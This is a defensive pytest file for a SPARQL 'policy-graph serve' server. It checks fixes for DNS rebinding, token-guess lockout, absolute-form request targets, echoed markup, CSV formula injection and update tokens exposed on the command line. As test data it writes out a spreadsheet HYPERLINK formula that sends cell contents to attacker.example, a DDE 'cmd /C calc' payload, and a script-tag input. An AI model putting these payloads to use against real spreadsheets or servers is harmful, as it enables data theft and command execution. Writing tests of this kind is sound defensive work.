"""Holes of `policy-graph serve` closed at stop 19, each with the attack that opened it.  The real
server on loopback over tests/fixtures/mini.trig.

DNS rebinding: a page on evil.example whose name the attacker then points at 127.0.0.1 is, to the
victim's browser, the server's own origin.  Its requests reach the server with the page's name in
``Host`` (``evil.example:PORT``): that is how the attack is played here."""

from __future__ import annotations

import socket

import httpx
import pytest
from click.testing import CliRunner

from graph.cli import main
from graph.server.hosts import AllowedHosts, host_name
from server_support import build_fixture_store, running_server

TOKEN = "stop19-" + "r4nd0m-t0ken-0123456789"
UPDATE = "INSERT DATA { <http://example.org/a> <http://example.org/b> <http://example.org/c> }"
COUNT = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
SOURCE = "/source/4478c4c3e9e6165e"  # the fixture's source file


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    return build_fixture_store(tmp_path_factory.mktemp("stop19") / "store")


@pytest.fixture(scope="module")
def writable(store):
    """A server as `serve --allow-update --update-token …` starts it: no name given."""
    with running_server(store, workers=1, allow_update=True, update_token=TOKEN) as url:
        yield url


def _port(url: str) -> int:
    return int(url.rsplit(":", 1)[1])


def _exchange(port: int, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(request)
        received = b""
        while chunk := sock.recv(65536):
            received += chunk
        return received


# ------------------------------------------------------------ DNS rebinding


@pytest.mark.parametrize(
    "method, path, params",
    [
        ("GET", "/sparql", {"query": COUNT}),  # the endpoint's fast path (protocol.QueryFront)
        ("GET", "/", {}),
        ("GET", SOURCE, {}),  # a source file's text
        ("GET", "/download", {}),  # the whole store
        ("GET", "/static/app.css", {}),
        ("OPTIONS", "/sparql", {}),
    ],
)
def test_a_rebound_page_reads_nothing(writable, method, path, params):
    """Before: every page and every answer was served to a request for evil.example (the data of
    the store, the text of the source files, the whole store as a download).  Now a 421 in both
    languages, naming the option that would allow the name, with the security headers."""
    answer = httpx.request(
        method,
        writable + path,
        params=params,
        headers={
            "Host": f"evil.example:{_port(writable)}",
            "Origin": f"http://evil.example:{_port(writable)}",
        },
        timeout=30,
    )
    assert answer.status_code == 421
    assert "không trả lời cho tên 'evil.example:" in answer.text
    assert "does not answer for the host 'evil.example:" in answer.text
    assert "--allowed-host evil.example)" in answer.text
    assert "201" not in answer.text  # the fixture's triple count is not in it
    assert answer.headers["X-Frame-Options"] == "DENY"
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert "access-control-allow-origin" not in answer.headers


def test_a_rebound_page_cannot_lock_the_updater_out(writable):
    """Before: a rebound page is same-origin, so it may send ``Authorization`` (CORS keeps other
    origins from it): eleven wrong tokens from the victim's browser spent the budget of the
    victim's own address, and the admin's right token from that machine was a 429 for ten
    minutes.  Now the guesses are refused before the token is looked at, and the admin updates."""
    rebound = {"Host": f"evil.example:{_port(writable)}"}
    for n in range(12):
        guess = httpx.post(
            writable + "/sparql",
            data={"update": UPDATE},
            headers={**rebound, "Authorization": f"Bearer guess-{n:020d}"},
            timeout=30,
        )
        assert guess.status_code == 421
    admin = httpx.post(
        writable + "/sparql",
        data={"update": UPDATE},
        headers={"Authorization": f"Bearer {TOKEN}"},
        timeout=30,
    )
    assert admin.status_code == 200


def test_an_absolute_form_target_is_for_the_authority_it_names(writable):
    """RFC 9112 §3.2.2: a request whose target is absolute is for the target's authority, whatever
    its Host says.  Before: ``GET http://evil.example/static/app.css`` with ``Host: localhost`` was
    served as /static/app.css (the authority dropped), and so was one naming the server's address with a Host
    of evil.example."""
    port = _port(writable)
    foreign = _exchange(
        port,
        b"GET http://evil.example/static/app.css HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
    )
    assert foreign.startswith(b"HTTP/1.1 421 ")
    own = _exchange(
        port,
        f"GET http://127.0.0.1:{port}/static/app.css HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n".encode(),
    )
    assert own.startswith(b"HTTP/1.1 200 ")


def test_a_request_without_a_host_comes_from_no_browser_and_is_answered(writable):
    answer = _exchange(_port(writable), b"GET /static/app.css HTTP/1.0\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 200 ")


def test_every_host_of_an_http_1_0_request_is_checked(writable):
    """HTTP/1.0 may repeat Host (the one-Host rule is HTTP/1.1's): a second, foreign one is refused."""
    twice = b"GET /static/app.css HTTP/1.0\r\nHost: localhost\r\nHost: evil.example\r\n\r\n"
    assert _exchange(_port(writable), twice).startswith(b"HTTP/1.1 421 ")


def test_updates_without_a_token_from_any_page_do_not_lock_the_updater_out(store):
    """A page of another origin may not send ``Authorization`` (CORS), but it may send an update
    with none: a form POST of ``update=…``, or fetch in no-cors mode, needs no preflight.  Before:
    each was counted as a wrong token, and eleven (from the pages an office's browsers visit, one
    address behind its NAT) locked the updater out: the right token was a 429 for ten minutes.
    Now only a token presented counts; wrong ones still do."""
    with running_server(store, workers=1, allow_update=True, update_token=TOKEN) as url:
        foreign = {"Origin": "http://evil.example", "Content-Type": "application/x-www-form-urlencoded"}
        for _ in range(12):
            tokenless = httpx.post(url + "/sparql", content="update=CLEAR%20ALL", headers=foreign, timeout=30)
            assert tokenless.status_code == 401
        bearer = {"Authorization": f"Bearer {TOKEN}"}
        assert (
            httpx.post(url + "/sparql", data={"update": UPDATE}, headers=bearer, timeout=30).status_code
            == 200
        )
        for n in range(10):  # a token presented is still a guess, within the client's budget
            wrong = {"Authorization": f"Bearer wrong-{n:020d}"}
            httpx.post(url + "/sparql", data={"update": UPDATE}, headers=wrong, timeout=30)
        wrong = {"Authorization": "Bearer wrong-once-more-0000000"}
        assert (
            httpx.post(url + "/sparql", data={"update": UPDATE}, headers=wrong, timeout=30).status_code == 429
        )


# the names a server answers for: addresses, localhost, its public URL's host, --allowed-host
ANSWERED = [
    "127.0.0.1:{port}",
    "127.0.0.1",
    "[::1]:{port}",
    "192.168.1.20:{port}",  # any address: an address cannot be rebound
    "localhost:{port}",
    "LOCALHOST.:{port}",
    "tu-phap.localhost:{port}",  # RFC 6761: browsers resolve it to loopback themselves
    "data.example.vn",  # --public-url's host
    "policy.lan:{port}",  # --allowed-host policy.lan
    "bo-tu-phap.vn",  # --allowed-host .bo-tu-phap.vn: the domain …
    "du-lieu.bo-tu-phap.vn:{port}",  # … and every name under it
]
REFUSED = [
    "evil.example:{port}",
    "127.0.0.1.evil.example:{port}",  # a name that starts like an address
    "localhost.evil.example:{port}",
    "evilbo-tu-phap.vn",  # not under the domain
    "policy.lan.evil.example",
    "example.vn",  # the public URL's parent domain
    "",  # an empty Host
    "[evil.example]:{port}",
    "localhost:{port}:1",
]


@pytest.fixture(scope="module")
def named(store):
    with running_server(
        store,
        workers=1,
        public_url="https://data.example.vn",
        allowed_hosts=("policy.lan", ".bo-tu-phap.vn"),
    ) as url:
        yield url


@pytest.mark.parametrize("host", ANSWERED)
def test_the_names_the_server_has_are_answered(named, host):
    answer = httpx.get(named + "/health", headers={"Host": host.format(port=_port(named))}, timeout=30)
    assert answer.status_code == 200


@pytest.mark.parametrize("host", REFUSED)
def test_any_other_name_is_refused(named, host):
    answer = httpx.get(named + "/health", headers={"Host": host.format(port=_port(named))}, timeout=30)
    assert answer.status_code == 421


def test_a_hostile_host_is_not_echoed_with_markup():
    from graph.server.hosts import refusal

    text = refusal("<script>alert(1)</script>")
    assert "<" not in text and "'?'" in text


@pytest.mark.parametrize(
    "value, name",
    [
        ("Example.VN:8000", "example.vn"),
        ("[::1]:80", "::1"),
        ("[::1]", "::1"),
        ("localhost.", "localhost"),
        ("a:b", None),
        ("[::1]x", None),
        ("[1.2.3.4]", None),
    ],
)
def test_a_host_header_is_read_as_browsers_write_it(value, name):
    assert host_name(value) == name


def test_an_allowed_name_is_compared_as_a_browser_writes_it():
    """A Vietnamese name given as typed reaches the server in IDNA form (the browser's)."""
    hosts = AllowedHosts(["Dữ-liệu.VN"])
    assert hosts.allows("xn--d-liu-471bml.vn:8000")


@pytest.mark.parametrize(
    "given", ["https://data.example.vn", ".vn", "*.example.vn", "data.example.vn/x", "*"]
)
def test_serve_refuses_an_allowed_host_that_is_not_a_name(given):
    """A URL or a pattern given to --allowed-host would allow nothing (or, '.vn', every name anyone
    can buy): a usage error, not a server that silently refuses its own name."""
    result = CliRunner().invoke(main, ["serve", "--store", "/nonexistent", "--allowed-host", given])
    assert result.exit_code == 2
    assert "--allowed-host" in result.output


# ------------------------------------------------------------ exports opened in Excel


@pytest.mark.parametrize(
    "text, written",
    [
        # a live link sending the row's other cells to the attacker
        (
            '+HYPERLINK("http://attacker.example/?d="&A1;"Bấm vào đây")',
            '"\'+HYPERLINK(""http://attacker.example/?d=""&A1;""Bấm vào đây"")"',
        ),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # DDE
        ("- Sở Tài chính chủ trì", "'- Sở Tài chính chủ trì"),  # a bullet: #NAME? in Excel before
        ("+ Sở Y tế phối hợp", "'+ Sở Y tế phối hợp"),
        ("-5", "-5"),  # a signed number is a number
        ("-", "-"),  # a sign alone (a seed task is labelled '-') is no formula
        ("+3,5", '"+3,5"'),
        ("Sở Công Thương", "Sở Công Thương"),
    ],
)
def test_text_opening_with_a_sign_is_neutralised_in_the_csv_export(text, written):
    """Task texts and titles come from documents.  Before: a field opening with '+' or '-' was
    written as it was, and Excel evaluates such a field as a formula (OWASP ASVS 1.2.10 lists
    = + - @ tab and NUL): the /tree?format=csv and `query --format csv` files carried a live
    HYPERLINK and the DDE payload.  Now it opens with an apostrophe, unless it is a number."""
    import pyoxigraph as ox

    from graph.queries import QueryResult, to_csv

    result = QueryResult(columns=["task"], rows=[{"task": ox.Literal(text)}])
    assert to_csv(result).removeprefix("\ufeff").split("\r\n")[1] == written


# ------------------------------------------------------------ the update token in ps


@pytest.mark.parametrize("on_the_command_line", [True, False])
def test_a_token_on_the_command_line_is_warned_about(store, monkeypatch, on_the_command_line):
    """`serve --update-token T` leaves T in the process's command line, which every user of the
    machine reads (ps, /proc/PID/cmdline) while the server runs.  Before: said nowhere.  Now
    serve warns and names the environment variable; given that way, no warning."""
    import graph.server

    started = []
    monkeypatch.setattr(graph.server, "run_server", lambda *args, **kwargs: started.append(kwargs))
    args = ["serve", "--store", str(store), "--allow-update"]
    env = {}
    if on_the_command_line:
        args += ["--update-token", TOKEN]
    else:
        env["POLICY_GRAPH_UPDATE_TOKEN"] = TOKEN
    result = CliRunner().invoke(main, args, env=env)
    assert result.exit_code == 0, result.output
    assert started and started[0]["update_token"] == TOKEN
    warned = "shows in ps to every user of this machine" in result.output
    assert warned is on_the_command_line
    assert TOKEN not in result.output
